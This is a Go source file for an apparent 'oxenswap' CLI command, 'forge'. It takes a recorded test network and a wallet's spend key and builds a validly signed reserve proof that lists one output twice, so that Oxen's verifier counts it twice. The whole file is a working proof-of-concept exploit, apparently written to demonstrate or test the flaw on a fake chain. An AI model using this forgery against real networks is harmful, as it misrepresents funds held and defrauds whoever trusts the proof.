package main

import (
	"crypto/rand"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"strings"

	"github.com/spf13/cobra"

	"oxenswap/cmd/internal/cli"
	"oxenswap/oxenrpc/oxentest"
	"oxenswap/oxenrpc/wire"
	"oxenswap/swap/cryptonote"
)

func forgeCommand() *cobra.Command {
	var recording, keyFile, message string
	c := &cobra.Command{
		Use:   "forge --recording FILE --spend-key-file FILE --message M",
		Short: "Make a reserve proof that shows one output twice, as an attacker would",
		Long: `Looks for the outputs of a wallet of the recorded network in the recorded transactions and prints a reserve proof whose
every signature is right, and in which one output comes twice. Oxen's own code counts it twice.`,
		RunE: func(c *cobra.Command, _ []string) error {
			world, err := oxentest.ReadWorld(recording)
			if err != nil {
				return err
			}
			text, err := os.ReadFile(keyFile)
			if err != nil {
				return err
			}
			secret, err := cryptonote.ParseSecretKey(strings.TrimSpace(string(text)))
			if err != nil {
				return fmt.Errorf("%s: %w", keyFile, err)
			}
			wallet, err := cryptonote.OpenWallet(cryptonote.Fakechain, secret)
			if err != nil {
				return err
			}
			outputs, err := recordedOutputs(world, wallet)
			if err != nil {
				return fmt.Errorf("%s: %w", recording, err)
			}
			proof, err := wallet.ProveReserve([]byte(message), append(outputs, outputs[0]), rand.Reader)
			if err != nil {
				return err
			}
			fmt.Fprintln(c.OutOrStdout(), proof)
			return nil
		},
	}
	c.Flags().StringVar(&recording, "recording", "", "recording with the transactions")
	c.Flags().StringVar(&keyFile, "spend-key-file", "", "file with the wallet's secret spend key, in hex")
	c.Flags().StringVar(&message, "message", "", "what the proof is made for")
	return cli.Require(c, "recording", "spend-key-file", "message")
}

// recordedOutputs are the wallet's outputs among the recorded transactions; at least one.
func recordedOutputs(world *oxentest.World, wallet *cryptonote.Wallet) ([]cryptonote.OwnedOutput, error) {
	var outputs []cryptonote.OwnedOutput
	seen := map[cryptonote.TxID]bool{}
	for _, call := range world.Calls {
		var request struct {
			Method string `json:"method"`
			Params struct {
				Decoded bool `json:"decode_as_json"` // then the bytes are missing
			} `json:"params"`
		}
		if err := json.Unmarshal(call.Request, &request); err != nil {
			return nil, err
		}
		if request.Method != "get_transactions" || request.Params.Decoded {
			continue
		}
		answer, err := wire.ParseTransactions(call.Response)
		if err != nil {
			return nil, err
		}
		for _, t := range answer.Found {
			if seen[cryptonote.TxID(t.Hash)] {
				continue
			}
			seen[cryptonote.TxID(t.Hash)] = true
			parse := cryptonote.ParseTransaction
			if t.Pruned {
				parse = func(blob []byte) (*cryptonote.Transaction, error) {
					return cryptonote.ParsePrunedTransaction(blob, t.PrunableHash)
				}
			}
			tx, err := parse(t.Blob)
			if err != nil {
				return nil, fmt.Errorf("transaction %s: %w", t.Hash, err)
			}
			outputs = append(outputs, wallet.Outputs(tx)...)
		}
	}
	if len(outputs) == 0 {
		return nil, errors.New("no output of this wallet in it")
	}
	return outputs, nil
}
